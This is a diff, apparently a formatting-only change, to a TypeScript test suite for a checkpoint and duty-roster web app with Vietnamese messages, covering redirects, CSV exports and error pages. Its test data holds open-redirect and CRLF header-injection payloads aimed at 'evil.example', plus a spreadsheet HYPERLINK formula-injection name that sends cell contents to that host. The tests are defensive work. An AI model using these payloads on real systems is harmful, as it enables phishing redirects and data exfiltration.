@@ -20,15 +20,13 @@ function parseCsv(text: string): string[][] {
 			if (ch === '"' && text[i + 1] === '"') {
 				cell += '"';
 				i++;
-			}
-			else if (ch === '"') quoted = false;
+			} else if (ch === '"') quoted = false;
 			else cell += ch;
 		} else if (ch === '"') quoted = true;
 		else if (ch === ',') {
 			row.push(cell);
 			cell = '';
-		}
-		else if (ch === '\n' || ch === '\r') {
+		} else if (ch === '\n' || ch === '\r') {
 			if (ch === '\r' && text[i + 1] === '\n') i++;
 			row.push(cell);
 			rows.push(row);
@@ -84,7 +82,14 @@ describe.each(DATABASE_KINDS)('redirects, exports and error pages on %s', (kind)
 			'/\r\nLocation: http://evil.example'
 		];
 		/** Raw query strings, not re-encoded: what a link in a phishing mail would carry. */
-		const RAW = ['next=//evil.example', 'next=/%09/evil.example', 'next=%5C%5Cevil.example', 'next=/%5Cevil.example', 'next=%2F%2Fevil.example', 'next=/%0d%0aevil'];
+		const RAW = [
+			'next=//evil.example',
+			'next=/%09/evil.example',
+			'next=%5C%5Cevil.example',
+			'next=/%5Cevil.example',
+			'next=%2F%2Fevil.example',
+			'next=/%0d%0aevil'
+		];
 
 		const signIn = (query: string) =>
 			fetch(`${app}/login?${query}`, {
@@ -132,7 +137,14 @@ describe.each(DATABASE_KINDS)('redirects, exports and error pages on %s', (kind)
 			const formulaName = '=HYPERLINK("http://evil.example/?c="&A1,"Bấm vào đây")';
 			const created = await s.accounts.create(SYSTEM, { username: 'formula.user', displayName: formulaName, role: 'district_commander', wardCode: null });
 			const password = 'mat-khau-thu-nghiem-2026';
-			const me = { kind: 'user' as const, id: created.user.id, username: 'formula.user', name: created.user.displayName, role: 'district_commander' as const, wardCode: null };
+			const me = {
+				kind: 'user' as const,
+				id: created.user.id,
+				username: 'formula.user',
+				name: created.user.displayName,
+				role: 'district_commander' as const,
+				wardCode: null
+			};
 			await s.accounts.changePassword(me, { current: created.oneTimePassword, next: password, confirm: password });
 			await s.accounts.signIn({ username: 'formula.user', password }, '127.0.0.9');
 
@@ -177,7 +189,7 @@ describe.each(DATABASE_KINDS)('redirects, exports and error pages on %s', (kind)
 			const kimMa = await signedInUser(s, 'ward_commander', 'kim-ma');
 			const doiCan = await signedInUser(s, 'ward_staff', 'doi-can');
 			expect((await checkIn(kimMa.cookie, 'kim-ma-1')).status).toBe(201);
-			const kimMaName = (await (await fetch(`${app}/api/checkpoints?ward=kim-ma`, { headers: { cookie: kimMa.cookie } })).json() as CheckpointView[]).find(
+			const kimMaName = ((await (await fetch(`${app}/api/checkpoints?ward=kim-ma`, { headers: { cookie: kimMa.cookie } })).json()) as CheckpointView[]).find(
 				(c) => c.code === 'kim-ma-1'
 			)!.name;
 
@@ -186,7 +198,12 @@ describe.each(DATABASE_KINDS)('redirects, exports and error pages on %s', (kind)
 			const wardText = await ward.text();
 			const wardBody = JSON.parse(wardText) as { errors: Array<{ field: string; code: string; message: string; messageEn: string }> };
 			expect(wardBody.errors).toEqual([
-				{ field: 'personKey', code: 'already_on_duty', message: 'Người này đang trực ở một chốt khác', messageEn: 'This person is on duty at another checkpoint' }
+				{
+					field: 'personKey',
+					code: 'already_on_duty',
+					message: 'Người này đang trực ở một chốt khác',
+					messageEn: 'This person is on duty at another checkpoint'
+				}
 			]);
 			expect(wardText).not.toContain(kimMaName);
 			expect(wardText).not.toContain('kim-ma');
@@ -194,7 +211,13 @@ describe.each(DATABASE_KINDS)('redirects, exports and error pages on %s', (kind)
 			// The tablet's form (no JavaScript) says the same.
 			const form = await fetch(`${app}/ward/doi-can/checkpoints?/checkIn`, {
 				method: 'POST',
-				headers: { 'content-type': 'application/x-www-form-urlencoded', origin: app, accept: 'application/json', 'x-sveltekit-action': 'true', cookie: doiCan.cookie },
+				headers: {
+					'content-type': 'application/x-www-form-urlencoded',
+					origin: app,
+					accept: 'application/json',
+					'x-sveltekit-action': 'true',
+					cookie: doiCan.cookie
+				},
 				body: new URLSearchParams({ checkpoint: 'doi-can-1', ...person })
 			});
 			const formText = await form.text();
